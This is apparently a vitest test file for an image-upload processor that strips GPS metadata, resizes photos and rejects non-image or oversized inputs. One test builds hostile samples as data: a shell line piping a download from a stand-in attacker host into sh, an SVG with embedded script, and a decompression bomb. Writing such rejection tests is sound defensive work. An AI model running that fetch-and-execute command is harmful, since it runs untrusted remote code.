import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { AppError } from '../../http/errors.js';
import { hasGpsBlock, jpegWithGps } from '../../../test/support/images.js';
import { PHOTO_MAX_EDGE } from '../../http/photos.js';
import { processPhoto } from './photos-office.js';

const refusal = async (input: Buffer) => {
  try {
    await processPhoto(input);
  } catch (error) {
    return error as AppError;
  }
  throw new Error('expected a refusal');
};

describe('photo processing', () => {
  it('the test photo really carries GPS EXIF', async () => {
    const metadata = await sharp(await jpegWithGps()).metadata();
    expect(metadata.exif).toBeDefined();
    expect(metadata.exif!.toString('latin1')).toContain('PhoneMaker');
    expect(hasGpsBlock(metadata.exif)).toBe(true);
    expect(metadata.orientation).toBe(6);
  });

  it('re-encodes to WebP at most 1600 px, upright, without any metadata', async () => {
    const result = await processPhoto(await jpegWithGps());
    const metadata = await sharp(result.image).metadata();
    expect(metadata.format).toBe('webp');
    // Orientation 6 turns the 2400×1800 landscape into a portrait.
    expect([result.width, result.height]).toEqual([1200, PHOTO_MAX_EDGE]);
    expect([metadata.width, metadata.height]).toEqual([1200, PHOTO_MAX_EDGE]);
    expect(metadata.exif).toBeUndefined();
    expect(metadata.xmp).toBeUndefined();
    expect(metadata.orientation).toBeUndefined();
    expect(result.image.includes(Buffer.from('PhoneMaker'))).toBe(false);
    expect(result.image.includes(Buffer.from('Exif'))).toBe(false);
  });

  it('keeps small images at their size and accepts PNG and WebP', async () => {
    const png = await sharp({ create: { width: 320, height: 200, channels: 4, background: '#0b4f8a' } }).png().toBuffer();
    expect(await processPhoto(png)).toMatchObject({ width: 320, height: 200 });
    const webp = await sharp({ create: { width: 100, height: 80, channels: 3, background: '#ffffff' } }).webp().toBuffer();
    expect(await processPhoto(webp)).toMatchObject({ width: 100, height: 80 });
  });

  it('refuses a script named like an image, an SVG, a GIF and a truncated JPEG with 415', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n');
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>');
    const gif = await sharp({ create: { width: 10, height: 10, channels: 3, background: '#000' } }).gif().toBuffer();
    const jpeg = await jpegWithGps(400, 300);
    const truncated = jpeg.subarray(0, 400);
    for (const input of [script, svg, gif, truncated]) {
      const error = await refusal(input);
      expect(error).toBeInstanceOf(AppError);
      expect(error.status).toBe(415);
      expect(error.issues[0]?.en).toContain('not a JPEG, PNG or WebP image');
    }
  });

  it('refuses a decompression bomb before decoding it', async () => {
    const bomb = await sharp({ create: { width: 10000, height: 6000, channels: 3, background: '#000' } }).png({ compressionLevel: 9 }).toBuffer();
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const error = await refusal(bomb);
    expect(error.status).toBe(413);
  });
});
